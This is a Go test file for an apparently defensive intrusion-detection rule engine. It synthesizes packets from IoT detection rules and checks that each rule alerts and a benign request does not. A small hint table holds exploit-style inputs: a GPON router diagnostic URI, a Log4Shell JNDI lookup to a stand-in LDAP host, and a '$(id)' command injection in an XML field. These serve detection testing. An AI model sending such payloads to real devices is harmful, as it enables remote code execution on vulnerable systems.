package rules

import (
	"bytes"
	"net/netip"
	"strings"
	"testing"

	"github.com/honeyscope/honeyscope/internal/decode"
)

// pcreHints give, for the rules whose pcre asks for more than their
// contents say, the buffer value to use instead of the concatenated
// contents (each still contains the rule's contents).
var pcreHints = map[uint32]map[Buffer]string{
	2027063: {BufURI: "/GponForm/diag_FORM?images/"},
	2034659: {BufPayload: "uname=%24%7Bjndi%3Aldap://192.0.2.1/a"},
	2034630: {BufRequestBody: "<language>$(id)</language>"},
}

// synthBuffers concatenates each buffer's positive contents in rule order,
// padding for offset and distance.
func synthBuffers(r *Rule) map[Buffer][]byte {
	out := map[Buffer][]byte{}
	for _, l := range r.lists {
		var b []byte
		for _, e := range l.elems {
			if e.kind != ekContent || e.neg {
				continue
			}
			switch {
			case e.hasOffset && len(b) < e.offset:
				b = append(b, bytes.Repeat([]byte("x"), e.offset-len(b))...)
			case e.hasDistance && e.distance > 0:
				b = append(b, bytes.Repeat([]byte("x"), e.distance)...)
			}
			b = append(b, e.pat...)
		}
		out[l.buf] = b
	}
	for b, v := range pcreHints[r.SID] {
		out[b] = []byte(v)
	}
	return out
}

// synthPayload builds the packet payload that carries a rule's exploit: an
// HTTP request from the HTTP buffers' contents, or the payload contents.
func synthPayload(r *Rule) []byte {
	bufs := synthBuffers(r)
	http := false
	for b := range bufs {
		http = http || b.isHTTP()
	}
	if !http && r.proto != ProtoHTTP {
		return bufs[BufPayload]
	}
	method := string(bufs[BufMethod])
	if method == "" {
		method = "GET"
	}
	uri := string(bufs[BufURIRaw]) + string(bufs[BufURI])
	if uri == "" {
		uri = "/"
	}
	var h strings.Builder
	h.WriteString(method + " " + uri + " HTTP/1.1\r\nHost: 192.0.2.10\r\n")
	if ua := bufs[BufUserAgent]; ua != nil {
		h.WriteString("User-Agent: " + string(ua) + "\r\n")
	}
	for _, b := range []Buffer{BufHeader, BufHeaderRaw} {
		if v := string(bufs[b]); v != "" {
			if strings.Contains(v, ": ") {
				h.WriteString(v + "\r\n")
			} else {
				h.WriteString("X-Synth: " + v + "\r\n")
			}
		}
	}
	if v := bufs[BufPayload]; v != nil {
		h.WriteString("X-Payload: " + string(v) + "\r\n")
	}
	h.WriteString("\r\n")
	h.Write(bufs[BufRequestBody])
	return []byte(h.String())
}

// addrFor returns an address of the candidates the group accepts.
func addrFor(g *addrMatcher, cands ...netip.Addr) netip.Addr {
	for _, a := range cands {
		if g.match(a) {
			return a
		}
	}
	return netip.Addr{}
}

func portFor(g *portGroup) uint16 {
	for _, p := range []uint16{80, 23, 5555, 52869, 8080, 2323, 40000} {
		if g.match(p) {
			return p
		}
	}
	return 0
}

// TestIoTRulesOnSynthesizedExploits loads iot-relevant.rules: every rule
// loads except those whose pcre needs a PCRE feature RE2 lacks, and each
// loaded rule alerts on a packet carrying its exploit, built from its own
// contents (a flowbits check after the packet of the rule that sets it, in
// the same flow).
func TestIoTRulesOnSynthesizedExploits(t *testing.T) {
	home, ext := netip.MustParseAddr("192.0.2.10"), netip.MustParseAddr("198.51.100.7")
	vars := DefaultVars().With(map[string]string{"HOME_NET": "[192.0.2.0/24]"})
	s, err := Load([]string{sharedPath(t, "rules/iot-relevant.rules")}, Options{Vars: vars})
	if err != nil {
		t.Fatal(err)
	}
	if n := len(s.Rules) + len(s.Unsupported); n != 22 {
		t.Fatalf("%d rules read, the file has 22", n)
	}
	for _, u := range s.Unsupported {
		if !strings.Contains(u.Reason, "pcre") || !strings.Contains(u.Reason, "not supported by RE2") {
			t.Errorf("sid %d unsupported for a reason other than a PCRE feature: %s", u.SID, u.Reason)
		}
		t.Logf("unsupported: %s", u)
	}
	if len(s.Rules) < 21 {
		t.Fatalf("only %d of 22 IoT rules load", len(s.Rules))
	}
	e, err := Compile(s)
	if err != nil {
		t.Fatal(err)
	}
	m := NewMatcher(e)
	setter := map[int]int{} // flowbit id -> rule index setting it
	for i, r := range e.Rules() {
		for _, f := range r.flowbits {
			if f.cmd == 's' {
				setter[f.bits[0]] = i
			}
		}
	}
	packet := func(r *Rule) decode.Packet {
		src, dst := addrFor(r.src, ext, home), addrFor(r.dst, home, ext)
		return decode.Packet{Src: src, Dst: dst, Proto: decode.ProtoTCP, HasTransport: true,
			SrcPort: 40000, DstPort: portFor(r.dp), TCPFlags: decode.TCPAck | decode.TCPPsh, Payload: synthPayload(r)}
	}
	for i, r := range e.Rules() {
		st := NewState(64, 64)
		ctx := Context{State: st, Flow: uint64(i + 1)}
		if r.flow.dir < 0 {
			ctx.Dir = DirToClient
		}
		for _, f := range r.flowbits {
			if f.cmd == 'i' {
				si, ok := setter[f.bits[0]]
				if !ok {
					t.Fatalf("sid %d: no rule sets its flowbit", r.SID)
				}
				sp := packet(e.Rules()[si])
				m.Packet(&sp, &ctx, nil)
			}
		}
		p := packet(r)
		found := false
		for _, a := range m.Packet(&p, &ctx, nil) {
			found = found || a.Rule == int32(i)
		}
		if !found {
			t.Errorf("sid %d (%s) did not alert on its synthesized exploit %q", r.SID, r.Msg, p.Payload)
		}
		// Without the flowbit, a flowbits check must not alert.
		if r.testsFlowbits() {
			q := packet(r)
			for _, a := range m.Packet(&q, &Context{State: NewState(16, 16), Flow: 99}, nil) {
				if a.Rule == int32(i) {
					t.Errorf("sid %d alerted without its flowbit set", r.SID)
				}
			}
		}
	}
	// A benign request alerts none of them.
	benign := decode.Packet{Src: ext, Dst: home, Proto: decode.ProtoTCP, HasTransport: true, SrcPort: 40000, DstPort: 80,
		TCPFlags: decode.TCPAck | decode.TCPPsh, Payload: []byte("GET /index.html HTTP/1.1\r\nHost: 192.0.2.10\r\nUser-Agent: Mozilla/5.0\r\nReferer: http://192.0.2.10/\r\n\r\n")}
	if as := m.Packet(&benign, nil, nil); len(as) > 0 {
		t.Errorf("benign request alerted %v", as)
	}
}
